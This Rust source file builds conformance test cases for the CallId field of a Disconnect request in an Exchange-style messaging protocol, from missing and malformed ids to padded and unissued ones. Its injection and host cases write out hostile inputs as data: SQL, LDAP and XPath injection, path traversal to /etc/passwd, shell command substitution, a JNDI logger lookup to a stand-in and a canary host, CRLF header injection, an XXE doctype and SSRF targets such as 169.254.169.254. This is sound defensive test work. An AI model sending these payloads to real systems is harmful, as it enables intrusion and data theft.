//! The call id: missing, empty, garbage, nearly right, and never issued.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

use super::{Case, Needs};
use crate::message::{Close, Edit, Place};
use crate::protocol::{InputClass, RequirementId, names, req};

/// A GUID that no server issues, with the version and variant of a random one.
const GUID: &str = "00000000-0000-4000-8000-000000000000";
/// The server that all documented ids name.
const DOCUMENTED_HOST: &str = "df-eum-01.exchange.corp.microsoft.com";

pub(super) fn cases() -> Vec<Case> {
    [
        missing(),
        empty(),
        blank(),
        invisible(),
        garbage(),
        broken_shapes(),
        ews_samples(),
        injection(),
        near(),
        padded(),
        padded_beyond_ascii(),
        unissued(),
        hosts(),
    ]
    .concat()
}

fn case(name: &str, about: &str, class: InputClass, requirements: &[RequirementId], edit: Edit) -> Case {
    Case::request(format!("call-id/{name}"), about.to_owned(), class, requirements, vec![edit])
}

/// A case whose CallId holds this markup.
fn text(name: &str, about: &str, class: InputClass, requirements: &[RequirementId], markup: &str) -> Case {
    case(name, about, class, requirements, Edit::Content(Place::CallId, markup.to_owned()))
}

/// The documented shape of an id: base64 of a GUID, `@` and a host.
fn shaped(guid: &str, host: &str) -> String {
    STANDARD.encode(format!("{guid}@{host}"))
}

fn missing() -> Vec<Case> {
    let inside = |markup: &str| Edit::Content(Place::Operation, markup.to_owned());
    let mut cases: Vec<Case> = [
        (
            "missing-self-closed",
            "Disconnect is an empty-element tag.",
            Edit::Close(Place::Operation, Close::Empty),
        ),
        ("missing-open-close", "Disconnect has a start and an end tag and nothing between.", inside("")),
        ("missing-blank", "Disconnect holds only white space.", inside("\r\n  \t")),
        ("missing-comment-only", "Disconnect holds only a comment.", inside("<!-- nothing -->")),
        (
            "missing-other-child",
            "Disconnect holds another element and no CallId.",
            inside("<Reason>1</Reason>"),
        ),
        ("missing-commented-out", "CallId stands in a comment.", inside("<!--<CallId>{id}</CallId>-->")),
    ]
    .into_iter()
    .map(|(name, about, edit)| case(name, about, InputClass::MissingCallId, &[req::MISSING_CALL_ID], edit))
    .collect();
    let entry = format!(r#"<m:CallId xmlns:m="{}">{{id}}</m:CallId>"#, names::MESSAGES);
    cases.push(Case::request(
        "call-id/missing-in-header-only",
        "CallId is a header entry, and Disconnect is empty.",
        InputClass::MissingCallId,
        &[req::MISSING_CALL_ID],
        vec![Edit::Header(entry), Edit::Delete(Place::CallId)],
    ));
    cases
}

fn empty() -> Vec<Case> {
    let mut cases: Vec<Case> = [
        ("empty-open-close", "CallId has a start and an end tag and nothing between.", ""),
        ("empty-cdata", "CallId holds an empty CDATA section.", "<![CDATA[]]>"),
        ("empty-cdata-twice", "CallId holds two empty CDATA sections.", "<![CDATA[]]><![CDATA[]]>"),
        ("empty-comment-only", "CallId holds only a comment.", "<!-- nothing -->"),
    ]
    .into_iter()
    .map(|(name, about, markup)| text(name, about, InputClass::EmptyCallId, &[req::EMPTY_CALL_ID], markup))
    .collect();
    cases.push(case(
        "empty-self-closed",
        "CallId is an empty-element tag.",
        InputClass::EmptyCallId,
        &[req::EMPTY_CALL_ID],
        Edit::Close(Place::CallId, Close::Empty),
    ));
    cases
}

fn blank() -> Vec<Case> {
    [
        ("space", "one space", " ".to_owned()),
        ("tab", "one tab", "\t".to_owned()),
        ("line-feed", "one line feed", "\n".to_owned()),
        ("carriage-return", "one carriage return as a reference", "&#13;".to_owned()),
        ("space-in-cdata", "one space in a CDATA section", "<![CDATA[ ]]>".to_owned()),
        ("mixed", "every kind of white space", " \t\n&#13;".to_owned()),
        ("hundred-spaces", "a hundred spaces", " ".repeat(100)),
    ]
    .into_iter()
    .map(|(word, what, markup)| {
        let about = format!("CallId holds {what} and nothing else.");
        text(
            &format!("blank-{word}"),
            &about,
            InputClass::BlankCallId,
            &[req::INCORRECT_CALL_ID, req::EMPTY_CALL_ID],
            &markup,
        )
    })
    .collect()
}

/// Characters without a shape that are not white space to XML.
fn invisible() -> Vec<Case> {
    [
        ("no-break-space", '\u{A0}'),
        ("zero-width-space", '\u{200B}'),
        ("ideographic-space", '\u{3000}'),
        ("zero-width-no-break-space", '\u{FEFF}'),
    ]
    .into_iter()
    .map(|(word, c)| {
        let about = format!("CallId holds one {} and nothing else.", word.replace('-', " "));
        text(&format!("only-{word}"), &about, InputClass::Garbage, &[req::INCORRECT_CALL_ID], &c.to_string())
    })
    .collect()
}

fn garbage() -> Vec<Case> {
    [
        ("integer", "an integer", "12345"),
        ("zero", "zero", "0"),
        ("minus-one", "minus one", "-1"),
        ("word", "a word", "umspec"),
        ("word-null", "the word null", "null"),
        ("word-false", "the word false", "false"),
        ("url", "a URL", "http://umspec.invalid/call/1"),
        ("path", "a file path", "/var/spool/calls/1"),
        ("guid-only", "a GUID without a host", GUID),
        ("guid-in-braces", "a GUID in braces", "{00000000-0000-4000-8000-000000000000}"),
        (
            "guid-and-host",
            "a GUID, @ and a host that are not encoded",
            "00000000-0000-4000-8000-000000000000@umspec.invalid",
        ),
        ("non-ascii", "letters of several scripts", "\u{E4}\u{416}\u{4E2D}\u{5D0}"),
    ]
    .into_iter()
    .map(|(word, what, markup)| {
        let about = format!("CallId holds {what}.");
        text(&format!("garbage-{word}"), &about, InputClass::Garbage, &[req::INCORRECT_CALL_ID], markup)
    })
    .collect()
}

/// Ids that decode, or nearly do, to something other than a GUID and a host.
fn broken_shapes() -> Vec<Case> {
    let sample = names::SAMPLE_CALL_ID;
    let unpadded = sample.trim_end_matches('=');
    let encode = |octets: &[u8]| STANDARD.encode(octets);
    [
        (
            "random-base64",
            "base64 of octets that are no text",
            encode(&[0xFB, 0x8E, 0x13, 0x9C, 0xD2, 0x00, 0xA7, 0xFF, 0x41]),
        ),
        ("base64-without-at-sign", "base64 of text without @", encode(b"umspec is not an identifier")),
        ("base64-of-host-only", "base64 of @ and a host without GUID", shaped("", "umspec.invalid")),
        ("base64-of-guid-only", "base64 of a GUID and @ without host", shaped(GUID, "")),
        (
            "base64-of-guid-in-braces",
            "base64 of a GUID in braces, @ and a host",
            shaped("{00000000-0000-4000-8000-000000000000}", "umspec.invalid"),
        ),
        (
            "base64-with-null",
            "base64 of a GUID, @ and a host with a null octet in it",
            shaped(GUID, "umspec\0.invalid"),
        ),
        (
            "base64-with-bad-utf8",
            "base64 of a GUID, @ and octets that are not UTF-8",
            encode(&[GUID.as_bytes(), b"@", &[0xC3, 0x28, 0xFF]].concat()),
        ),
        ("base64-doubled-padding", "a documented id with one = too many", format!("{sample}=")),
        ("base64-without-padding", "a documented id without its =", unpadded.to_owned()),
        ("base64-foreign-character", "a documented id with an asterisk in it", sample.replacen('j', "*", 1)),
        ("latin-letters", "letters of ISO 8859-1", "umspec-\u{E9}-\u{FC}".to_owned()),
        ("base64-percent-encoded", "a documented id with its = percent-encoded", format!("{unpadded}%3D")),
    ]
    .into_iter()
    .map(|(word, what, id)| {
        let about = format!("CallId holds {what}.");
        text(
            &format!("garbage-{word}"),
            &about,
            InputClass::Garbage,
            &[req::INCORRECT_CALL_ID, req::CALL_ID_SHAPE],
            &id,
        )
    })
    .collect()
}

fn ews_samples() -> Vec<Case> {
    [
        ("disconnect-phone-call", "OWVl4NWb3N29t", "DisconnectPhoneCall"),
        ("get-phone-call-information", "NDDY5uY29y9t", "GetPhoneCallInformation"),
    ]
    .into_iter()
    .map(|(word, id, operation)| {
        text(
            &format!("ews-sample-of-{word}"),
            &format!("CallId holds the id that the documents show for {operation} of EWS."),
            InputClass::Garbage,
            &[req::NOT_AN_EWS_ID],
            id,
        )
        .recorded()
    })
    .collect()
}

/// Text that means something to whatever the id might be pasted into.
fn injection() -> Vec<Case> {
    let mut cases: Vec<Case> = [
        ("sql-quote", "a quote and a condition of SQL", "' OR '1'='1"),
        ("sql-comment", "a statement and a comment of SQL", "1; DROP TABLE calls; --"),
        ("ldap-parenthesis", "the end of an LDAP filter and another one", "*)(objectClass=*"),
        ("ldap-star", "the wildcard of LDAP", "*"),
        ("xpath-quote", "a quote and a condition of XPath", "' or count(//*)>0 or ''='"),
        ("format-string", "conversions of a C format string", "%s%s%s%n%x"),
        ("path-upwards", "a path upwards", "../../../../etc/passwd"),
        ("path-upwards-backslash", "a path upwards with backslashes", "..\\..\\..\\web.config"),
        ("percent-null", "a percent-encoded null", "umspec%00.wav"),
        ("ampersand", "an ampersand, escaped", "umspec&amp;call"),
        ("backtick", "a command in backticks", "`id`"),
        // Wherever a text is cut after escaping, one of the two is cut within a reference.
        ("ampersands", "two hundred ampersands, escaped", "{&amp;*200}"),
        ("ampersands-after-letter", "a letter and two hundred ampersands, escaped", "x{&amp;*200}"),
        ("cdata-end", "the end of a CDATA section, escaped", "umspec]]&gt;call"),
        ("less-than", "a less-than sign, escaped", "umspec&lt;call"),
        ("markup", "an element, escaped", "&lt;umspec-from-id/&gt;"),
        ("quotes", "both kinds of quotes, escaped", "umspec&quot;&apos;call"),
        ("command-substitution", "a command substitution", "$(id)"),
        ("lookup-of-a-logger", "a lookup of a logging library", "${jndi:ldap://umspec.invalid/call}"),
        ("line-break", "a line break and a header field", "umspec&#13;&#10;Set-Cookie: umspec-from-id=1"),
        ("right-to-left-override", "a right-to-left override", "umspec\u{202E}cepsmu"),
        ("script", "a script element of HTML, escaped", "&lt;script&gt;alert(1)&lt;/script&gt;"),
        (
            "doctype",
            "a document type declaration, escaped",
            "&lt;!DOCTYPE x [&lt;!ENTITY y SYSTEM \"file:///etc/passwd\"&gt;]&gt;",
        ),
    ]
    .into_iter()
    .map(|(word, what, markup)| {
        let about = format!("CallId holds {what}.");
        text(
            &format!("injection-{word}"),
            &about,
            InputClass::Garbage,
            &[req::CALL_ID_IS_DATA, req::INCORRECT_CALL_ID],
            markup,
        )
    })
    .collect();
    cases.push(
        text(
            "injection-lookup-of-a-logger-at-canary",
            "CallId holds a lookup of a logging library at a watched address.",
            InputClass::Garbage,
            &[req::CALL_ID_IS_DATA, req::CALL_ID_HOST_NOT_TRUSTED],
            "${jndi:ldap://{canary_host}/call}",
        )
        .contact(req::CALL_ID_HOST_NOT_TRUSTED)
        .needs(Needs::Canary),
    );
    cases
}

/// Ids that differ a little from that of a live call.
fn near() -> Vec<Case> {
    [
        ("case-swapped", "The case of every letter of a live id is changed.", req::CALL_ID_CASE, "{swapped}"),
        (
            "last-letter-replaced",
            "The last letter or digit of a live id is replaced.",
            req::UNISSUED_CALL_ID,
            "{flipped}",
        ),
        (
            "last-character-missing",
            "The last character of a live id is missing.",
            req::UNISSUED_CALL_ID,
            "{cut}",
        ),
        ("second-half-missing", "The second half of a live id is missing.", req::UNISSUED_CALL_ID, "{head}"),
        ("letter-appended", "A letter follows a live id.", req::UNISSUED_CALL_ID, "{id}x"),
        ("doubled", "A live id is written twice in a row.", req::UNISSUED_CALL_ID, "{id}{id}"),
    ]
    .into_iter()
    .map(|(word, about, requirement, markup)| {
        text(&format!("near-{word}"), about, InputClass::Unissued, &[requirement], markup)
            .needs(Needs::LiveCall)
    })
    .collect()
}

/// White space around or inside a live id.
fn padded() -> Vec<Case> {
    [
        ("leading-space", "A space stands before a live id.", req::PADDED_CALL_ID, " {id}"),
        ("trailing-space", "A space follows a live id.", req::PADDED_CALL_ID, "{id} "),
        (
            "spaces-around",
            "A space stands before and another after a live id.",
            req::PADDED_CALL_ID,
            " {id} ",
        ),
        ("leading-tab", "A tab stands before a live id.", req::PADDED_CALL_ID, "\t{id}"),
        ("leading-line-feed", "A line feed stands before a live id.", req::PADDED_CALL_ID, "\n{id}"),
        ("trailing-line-feed", "A line feed follows a live id.", req::PADDED_CALL_ID, "{id}\n"),
        (
            "leading-carriage-return",
            "A carriage return, written as a reference, stands before a live id.",
            req::PADDED_CALL_ID,
            "&#13;{id}",
        ),
        (
            "space-in-cdata",
            "A space in a CDATA section stands before a live id.",
            req::PADDED_CALL_ID,
            "<![CDATA[ ]]>{id}",
        ),
        (
            "pretty-printed",
            "A live id stands on an indented line of its own.",
            req::PADDED_CALL_ID,
            "\r\n        {id}\r\n      ",
        ),
        (
            "inner-space",
            "A space stands in the middle of a live id.",
            req::WHITE_SPACE_WITHIN_CALL_ID,
            "{head} {tail}",
        ),
        (
            "inner-line-feed",
            "A line feed stands in the middle of a live id.",
            req::WHITE_SPACE_WITHIN_CALL_ID,
            "{head}\n{tail}",
        ),
        (
            "wrapped",
            "A line feed stands after every 76 characters of a live id.",
            req::WHITE_SPACE_WITHIN_CALL_ID,
            "{wrapped}",
        ),
    ]
    .into_iter()
    .map(|(word, about, requirement, markup)| {
        let other = if requirement == req::PADDED_CALL_ID {
            req::WHITE_SPACE_WITHIN_CALL_ID
        } else {
            req::PADDED_CALL_ID
        };
        text(&format!("padded-{word}"), about, InputClass::PaddedCallId, &[requirement, other], markup)
            .needs(Needs::LiveCall)
    })
    .collect()
}

/// Characters around a live id that XML does not count as white space, though others do.
/// Blanks beyond those of XML, around a live id. A server that trims them decodes loosely, as it may
/// (UMD-R086).
fn padded_beyond_ascii() -> Vec<Case> {
    [
        ("leading-no-break-space", "A no-break space stands before a live id.", "\u{A0}{id}"),
        ("trailing-no-break-space", "A no-break space follows a live id.", "{id}\u{A0}"),
        ("trailing-ideographic-space", "An ideographic space follows a live id.", "{id}\u{3000}"),
        (
            "leading-zero-width-no-break-space",
            "A zero-width no-break space stands before a live id.",
            "\u{FEFF}{id}",
        ),
    ]
    .into_iter()
    .map(|(word, about, markup)| {
        text(
            &format!("padded-{word}"),
            about,
            InputClass::PaddedCallId,
            &[req::PADDED_CALL_ID, req::WHITE_SPACE_WITHIN_CALL_ID],
            markup,
        )
        .needs(Needs::LiveCall)
    })
    .chain([text(
        "padded-inner-zero-width-space",
        "A zero-width space stands in the middle of a live id.",
        InputClass::Unissued,
        &[req::UNISSUED_CALL_ID, req::PADDED_CALL_ID],
        "{head}\u{200B}{tail}",
    )
    .needs(Needs::LiveCall)])
    .collect()
}

fn unissued() -> Vec<Case> {
    let documented = names::SAMPLE_CALL_ID;
    let longest = [63, 63, 63, 61].map(|length| "h".repeat(length)).join(".");
    [
        ("documented-sample", "the id of the documented request", documented.to_owned()),
        (
            "nil-guid",
            "the nil GUID at the documented host",
            shaped("00000000-0000-0000-0000-000000000000", DOCUMENTED_HOST),
        ),
        (
            "max-guid",
            "the GUID of all ones at the documented host",
            shaped("ffffffff-ffff-ffff-ffff-ffffffffffff", DOCUMENTED_HOST),
        ),
        (
            "fresh-guid",
            "a GUID of our own at the documented host",
            shaped("6f0d1f3e-9a57-4c1b-8e0a-2f6d5b7c9e11", DOCUMENTED_HOST),
        ),
        (
            "unknown-host",
            "a GUID of our own at a host that does not exist",
            shaped("6f0d1f3e-9a57-4c1b-8e0a-2f6d5b7c9e11", "umspec.invalid"),
        ),
        (
            "upper-case-guid",
            "a GUID with capitals at the documented host",
            shaped("09DF9EDC-4E23-4709-BDAF-7BE20CB0AE56", DOCUMENTED_HOST),
        ),
        ("longest-host", "a GUID at a host of 253 characters, the longest there is", shaped(GUID, &longest)),
    ]
    .into_iter()
    .map(|(word, what, id)| {
        let about = format!("CallId has the documented shape with {what}, and was never issued.");
        text(&format!("unissued-{word}"), &about, InputClass::Unissued, &[req::UNISSUED_CALL_ID], &id)
    })
    .collect()
}

/// Hosts that a server must not turn to only because an id names them.
fn hosts() -> Vec<Case> {
    let mut cases: Vec<Case> = [
        ("loopback", "the loopback address", "127.0.0.1"),
        ("loopback-with-port", "the loopback address and a port", "127.0.0.1:5062"),
        ("localhost-with-port", "localhost and a port", "localhost:5062"),
        ("loopback-of-ipv6", "the loopback address of IPv6", "[::1]"),
        ("link-local", "a link-local address", "169.254.169.254"),
        ("user-and-host", "a user, @ and a host", "umspec@umspec.invalid"),
        (
            "with-line-break",
            "a host with a line break and a header field in it",
            "umspec.invalid\r\nX-Umspec: 1",
        ),
    ]
    .into_iter()
    .map(|(word, what, host)| {
        let about = format!("CallId has the documented shape and names {what}.");
        text(
            &format!("host-{word}"),
            &about,
            InputClass::Unissued,
            &[req::CALL_ID_HOST_NOT_TRUSTED, req::UNISSUED_CALL_ID],
            &shaped(GUID, host),
        )
        .contact(req::CALL_ID_HOST_NOT_TRUSTED)
    })
    .collect();
    cases.push(
        text(
            "host-canary",
            "CallId has the documented shape and names an address that the run watches.",
            InputClass::Unissued,
            &[req::CALL_ID_HOST_NOT_TRUSTED, req::UNISSUED_CALL_ID],
            "{canary_id}",
        )
        .contact(req::CALL_ID_HOST_NOT_TRUSTED)
        .needs(Needs::Canary),
    );
    cases
}
